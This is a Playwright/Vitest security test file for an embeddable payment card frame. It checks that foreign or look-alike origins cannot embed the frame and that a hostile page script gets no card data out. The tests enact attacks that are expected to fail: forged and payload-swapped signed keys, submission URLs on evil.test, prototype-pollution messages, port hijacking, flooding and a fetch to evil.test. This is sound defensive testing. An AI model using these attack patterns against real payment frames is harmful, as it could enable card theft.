/**
 * P34: other pages cannot embed the card frame, and a hostile script in the right page gets no card out of it. Uses the
 * response of createFramePage with the built script, in Chromium; the allowed parents come from its configuration.
 */
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPair, PAYLOAD, signKey } from '../channel/sign-key.js';
import type { Web } from '../channel/web.js';
import {
  CARD,
  type FramedShop,
  holder,
  PAY,
  pressIn,
  RESULT_KEY,
  SERVICE,
  SHOP,
  startFramedShop,
  TOKEN_TYPE,
} from './framed-shop.js';

let shop: FramedShop;
let web: Web;
let page: Page;
let posts: readonly string[];
let privateKey: FramedShop['privateKey'];

beforeAll(async () => {
  shop = await startFramedShop();
  ({ web, page, posts, privateKey } = shop);
  web.put('/holder', holder());
  web.put('/nested', `<!doctype html><iframe src="${SHOP}/holder"></iframe>`);
}, 60_000);
afterAll(() => web.close());

/** How many of a page's frames show the card's fields, when all have loaded. */
async function renderedIn(address: string): Promise<number> {
  await page.goto(address, { waitUntil: 'load' });
  const counts = await Promise.all(page.frames().map((frame) => frame.locator('florin-card-form').count()));
  return counts.reduce((sum, count) => sum + count, 0);
}

/** Foreign pages that have tried, and frames that showed the fields in them. */
const sum = { pages: 0, rendered: 0 };
afterAll(() => {
  console.log(`P34: ${sum.pages} foreign pages, no seed, ${sum.rendered} rendered`);
  expect(sum.pages).toBeGreaterThanOrEqual(10);
  expect(sum.rendered).toBe(0);
});

async function expectNotRendered(address: string): Promise<void> {
  const rendered = await renderedIn(address);
  sum.pages += 1;
  sum.rendered += rendered;
  expect(rendered).toBe(0);
}

describe('the frame', () => {
  const strangers = [
    ['any other page', 'https://evil.test/holder'],
    ['an origin that begins like the shop’s', 'https://shop.test.evil.test/holder'],
    ['an origin that ends like the shop’s', 'https://evilshop.test/holder'],
    ['a subdomain of the shop', 'https://a.shop.test/holder'],
    ['the domain above', 'https://test/holder'],
    ['another port of the shop', 'https://shop.test:8443/holder'],
    ['the shop over http', 'http://shop.test/holder'],
    ['the shop’s host with a dot at its end', 'https://shop.test./holder'],
    ['a look-alike', 'https://ѕhop.test/holder'],
    ['the frame’s own origin', `${PAY}/holder`],
    ['a data: page', `data:text/html,${encodeURIComponent(holder())}`],
    ['a stranger that holds the shop that holds it', 'https://evil.test/nested'],
  ] as const;

  it('is rendered in the allowed pages', async () => {
    expect(await renderedIn(`${SHOP}/holder`)).toBe(1);
    expect(await renderedIn('https://other.test/holder')).toBe(1);
  });

  it.each(strangers)('is not drawn in %s', async (_what, address) => {
    await expectNotRendered(address);
  });

  it('is not rendered in a sandboxed page without an origin', async () => {
    web.put('https://evil.test/box', `<!doctype html><iframe sandbox="allow-scripts" src="${SHOP}/holder"></iframe>`);
    await expectNotRendered('https://evil.test/box');
  });
});

describe('a hostile script in the shop’s own page', () => {
  let frame: Frame;

  const visit = async () => {
    frame = await shop.visit();
  };

  const other = createPair();
  const submitUrl = `${SERVICE}/webapi/v3/txns/withauthkey/${PAYLOAD.authKey}`;
  const terms = { amount: { minor: 4900, currency: 'AUD' } };
  it.each<[what: string, code: string, token: () => string]>([
    ['another merchant’s key', 'key_refused', () => signKey(other.privateKey, { submitUrl, terms })],
    ['a key without a signature', 'key_refused', () => PAYLOAD.authKey],
    [
      'a key for another service',
      'key_refused',
      () => signKey(privateKey, { submitUrl: 'https://evil.test/x', terms }),
    ],
    [
      'a key for a service that begins like the right one',
      'key_refused',
      () => signKey(privateKey, { submitUrl: `${SERVICE}.evil.test/x`, terms }),
    ],
    ['a key for the shop', 'key_refused', () => signKey(privateKey, { submitUrl: `${SHOP}/x`, terms })],
    ['a key that is over', 'key_expired', () => signKey(privateKey, { submitUrl, terms, exp: 1 })],
    ['another payload under a right signature', 'key_refused', () => swapPayload()],
    ['the key of a card that is saved', 'key_refused', () => signKey(privateKey, { submitUrl, terms }, TOKEN_TYPE)],
  ])('gets no card sent with %s', async (_what, code, token) => {
    await visit();
    expect(await shop.submit(token())).toMatchObject({ code });
    expect(posts).toEqual([]);
    expect(web.requests.filter((url) => url.includes('evil') && url.endsWith('/x'))).toEqual([]);
  });

  function swapPayload(): string {
    const [header, , signature] = signKey(privateKey, { submitUrl, terms }).split('.');
    const [, payload] = signKey(other.privateKey, { submitUrl, terms, order: 'theirs' }).split('.');
    return `${header}.${payload}.${signature}`;
  }

  it('can save a card only with a key for saving, and without the security code', async () => {
    const storeUrl = `${SERVICE}/webapi/v3/dvtokens/withauthkey/${PAYLOAD.authKey}`;
    await visit();
    // What was typed to pay is gone before anything else is asked for.
    await page.evaluate(() => thief.call('configure', { savedCard: 'new' }));
    await frame.locator('#cvn').waitFor({ state: 'detached' });
    expect(await shop.submit(signKey(privateKey, { submitUrl: storeUrl }, TOKEN_TYPE))).toMatchObject({
      code: 'field_invalid',
    });
    for (const field of ['number', 'expiry', 'name'] as const) await frame.locator(`#${field}`).fill(CARD[field]);
    expect(await shop.submit(signKey(privateKey, { submitUrl, terms }))).toMatchObject({ code: 'key_refused' });
    expect(posts).toEqual([]);
    const saves = signKey(privateKey, { submitUrl: storeUrl, terms: { stores: 'new', account: 'mia' } }, TOKEN_TYPE);
    expect(await shop.submit(saves)).toMatchObject({ code: 'field_invalid' });
    await pressIn(frame, /saved for mia/);
    expect(await shop.submit(saves)).toMatchObject({ kind: 'finished' });
    expect(posts.map((post) => JSON.parse(post) as unknown)).toEqual([
      {
        DVTokenReq: {
          CardDetails: {
            CardHolderName: CARD.name,
            CardNumber: CARD.number,
            ExpiryDateMonth: '05',
            ExpiryDateYear: '39',
          },
        },
      },
    ]);
  });

  it('gets an outcome without card data with the right key, so the frame does not refuse every key', async () => {
    await visit();
    const key = signKey(privateKey, { submitUrl, terms });
    expect(await shop.submit(key)).toMatchObject({ code: 'field_invalid' });
    await pressIn(frame, /49\.00/);
    const outcome = await shop.submit(key);
    expect(outcome).toEqual({ kind: 'finished', resultKey: RESULT_KEY });
    expect(posts).toHaveLength(1);
    expect(posts[0]).toContain(CARD.number);
    const heard = JSON.stringify(await page.evaluate(() => thief.heard));
    expect(heard).not.toContain(CARD.number);
    expect(heard.replace(/\D/g, '')).not.toContain(CARD.number);
  });

  it('reaches nothing in the frame by property paths, and the frame still works', async () => {
    await visit();
    const messages = [
      { type: 'GET', path: ['submit'] },
      { type: 'APPLY', path: ['check', 'constructor'], argumentList: [{ type: 'RAW', value: 'return document' }] },
      { type: 'APPLY', path: ['set', 'group', 'read'], argumentList: [] },
      { type: 'APPLY', path: ['read'], argumentList: [] },
      { type: 'SET', path: ['__proto__', 'x'], value: { type: 'RAW', value: 1 } },
      { type: 'CONSTRUCT', path: ['check'], argumentList: [] },
      { type: 'ENDPOINT' },
    ];
    const heard = await page.evaluate(async (sent) => {
      thief.heard.length = 0;
      for (const message of sent) thief.send({ id: 'stolen', ...message });
      // What comes after them on the same port is answered after them.
      await thief.call('check');
      return (thief.heard as readonly { id?: string }[]).filter(({ id }) => id === 'stolen').length;
    }, messages);
    expect(heard).toBe(0);
    expect(await frame.evaluate(() => 'x' in {})).toBe(false);
  });

  it('gets no second port by a repeated handshake', async () => {
    await visit();
    const heard = await page.evaluate(
      async ([origin]) => {
        let greeting: { frame: string } | undefined;
        addEventListener('message', ({ data }) => (greeting = data as { frame: string }), { once: true });
        frames[0]!.postMessage({ florin: 'hello', page: 'again' }, origin!);
        while (!greeting) await new Promise((resolve) => setTimeout(resolve, 5));
        const ports = [new MessageChannel(), new MessageChannel()];
        const answers = [0, 0];
        for (const [at, { port1, port2 }] of ports.entries()) {
          port1.onmessage = () => (answers[at]! += 1);
          frames[0]!.postMessage({ florin: 'port', page: 'again', frame: greeting.frame }, origin!, [port2]);
        }
        // The second had the id of the first, which is still the frame's.
        const ask = { id: 'a', type: 'APPLY', path: ['check'], argumentList: [] };
        for (const { port1 } of ports) port1.postMessage(ask);
        while (answers[0] === 0) await new Promise((resolve) => setTimeout(resolve, 5));
        return answers[1];
      },
      [PAY],
    );
    expect(heard).toBe(0);
  });

  it('loses its port by a flood, and the typed values stay', async () => {
    await visit();
    await page.evaluate(async () => {
      for (let sent = 0; sent < 20_000; sent++) {
        thief.send({ id: 'f', type: 'APPLY', path: ['check'], argumentList: [] });
      }
      while (!thief.heard.some((each) => (each as { closed?: boolean }).closed)) {
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    });
    expect(await frame.locator('#cvn').inputValue()).toBe(CARD.cvn);
    await shop.steal();
    expect(await page.evaluate(() => thief.call('check'))).toBe(true);
  });

  it('finds no typed values in a frame that it navigates away and back', async () => {
    await visit();
    const isReadable = await page.evaluate(() => {
      try {
        return Boolean(document.querySelector('iframe')?.contentDocument?.body);
      } catch {
        return true;
      }
    });
    expect(isReadable).toBe(false);
    // One step after the other: Playwright loses a frame that changes its process again within the `load` of the first change.
    for (const address of [`${SHOP}/empty`, `${PAY}/frame.html`]) {
      await page.evaluate(async (to) => {
        const iframe = document.querySelector('iframe')!;
        const loaded = new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
        iframe.src = to;
        await loaded;
      }, address);
    }
    frame = page.frames()[1]!;
    for (const field of Object.keys(CARD)) expect(await frame.locator(`#${field}`).inputValue()).toBe('');
    expect(posts).toEqual([]);
  });

  it('could not send the card elsewhere even inside the frame', async () => {
    await visit();
    const failed = await frame.evaluate(async () => {
      const ways = await Promise.allSettled([fetch('https://evil.test/x'), fetch('https://shop.test/x')]);
      return ways.map(({ status }) => status);
    });
    expect(failed).toEqual(['rejected', 'rejected']);
    expect(web.requests.filter((url) => url.endsWith('/x'))).toEqual([]);
  });
});
